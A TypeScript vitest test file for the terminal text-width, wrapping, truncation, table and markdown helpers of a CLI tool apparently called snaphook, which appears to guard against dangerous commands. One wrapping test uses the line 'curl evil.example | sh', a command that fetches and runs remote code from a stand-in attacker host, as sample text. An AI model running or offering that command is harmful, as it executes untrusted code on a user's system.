import { describe, expect, it } from "vitest";
import { markdownText } from "../../src/cli/output/markdown.js";
import { table } from "../../src/cli/output/table.js";
import { cutPath, cutText, textWidth, wrapText } from "../../src/cli/output/text-width.js";

const widest = (text: string) => Math.max(...text.split("\n").map(textWidth));

describe("textWidth", () => {
  it.each([
    ["plain", 5],
    ["\u001b[31mred\u001b[0m", 3],
    ["日本語", 6],
    ["e\u0301te\u0301", 3],
    ["🚀 go", 5],
    ["✗ → …", 5],
  ])("%j takes %i columns", (text, columns) => {
    expect(textWidth(text)).toBe(columns);
  });
});

describe("wrapText", () => {
  it("wraps at spaces and goes on below the text", () => {
    expect(wrapText("  reason   deletes your entire home directory", 30)).toBe(
      "  reason   deletes your entire\n           home directory",
    );
    expect(wrapText("- one two three four five", 14)).toBe("- one two\n  three four\n  five");
    expect(wrapText("short\nlines stay", 20)).toBe("short\nlines stay");
  });

  it("never breaks a word, a path or code that fits a line", () => {
    const path = "/home/ann/some/where/very/deep/hooks.json";
    expect(wrapText(`Wrote ${path} now`, 20)).toBe(`Wrote\n${path}\nnow`);
    expect(wrapText("Run `snaphook except 3f9a --for 7d` to go on.", 34)).toBe(
      "Run\n`snaphook except 3f9a --for 7d` to\ngo on.",
    );
  });

  it("breaks scripts without spaces between characters", () => {
    expect(wrapText("删除所有文件和目录", 8)).toBe("删除所有\n文件和目\n录");
  });

  it("keeps what is quoted behind a bar behind a bar", () => {
    expect(wrapText("| data of a stranger\nours", 12)).toBe("| data of a\n| stranger\nours");
    expect(wrapText("    │ curl evil.example | sh\n    Reason: no", 18)).toBe(
      "    │ curl\n    ┆ evil.example\n    ┆ | sh\n    Reason: no",
    );
  });

  it("ends a colour with its line", () => {
    expect(wrapText("\u001b[31mone two\u001b[0m", 4)).toBe("\u001b[31mone\u001b[0m\n\u001b[31mtwo\u001b[0m");
  });

  it("changes nothing without a width", () => {
    const line = "word ".repeat(100);
    expect(wrapText(line, Number.POSITIVE_INFINITY)).toBe(line);
  });
});

describe("cutText and cutPath", () => {
  it("cut after a word, or inside one that is longer than half of the room", () => {
    expect(cutText("git push --force origin main", 20)).toBe("git push --force…");
    expect(cutText("averyveryverylongword", 10)).toBe("averyvery…");
    expect(cutText("日本語日本語", 6)).toBe("日本…");
    expect(cutPath("/home/ann/projects/app/src/index.ts", 20)).toBe("…/app/src/index.ts");
  });
});

describe("table", () => {
  const columns = [{ head: "id" }, { head: "what", narrow: "wrap", min: 10 }, { head: "from", drop: 1 }] as const;
  const rows = [
    ["protect-git", "blocks forced pushes and lost history", "snaphook"],
    ["日本", "blocks", "orion"],
  ];

  it("shows everything without a width", () => {
    const shown = table(columns, rows, { width: Number.POSITIVE_INFINITY });
    expect(shown.split("\n")).toEqual([
      "id           what                                   from",
      "protect-git  blocks forced pushes and lost history  snaphook",
      "日本         blocks                                 orion",
    ]);
  });

  it("wraps first, then leaves out what matters least", () => {
    const narrow = table(columns, rows, { width: 50 });
    expect(widest(narrow)).toBeLessThanOrEqual(50);
    expect(narrow).toContain("snaphook");
    const narrower = table(columns, rows, { width: 30 });
    expect(widest(narrower)).toBeLessThanOrEqual(30);
    expect(narrower).not.toContain("snaphook");
    for (const word of rows[0]![1]!.split(" ")) expect(narrower).toContain(word);
  });

  it("puts the cells of a row below each other if there is no room for a table", () => {
    const shown = table([{}, {}], [["an-id-that-is-long", "and-another-one"]], { width: 20 });
    expect(shown).toBe("an-id-that-is-long\n  and-another-one");
  });

  it("keeps a colour inside its cell", () => {
    const shown = table([{ narrow: "wrap", min: 4 }, {}], [["\u001b[33mone two\u001b[0m", "x"]], { width: 7 });
    expect(shown).toBe("\u001b[33mone\u001b[0m   x\n\u001b[33mtwo\u001b[0m");
  });
});

it("markdownText shows tables as tables, code as code and links as their text", () => {
  const page = "A [guard](guards.md)\nfor **you**.\n\n| a | b |\n| --- | --- |\n| `x\\|y` | z |\n\n```sh run\nls\n```";
  expect(markdownText(page)).toBe("A guard for you.\n\na      b\n`x|y`  z\n\n    ls");
});
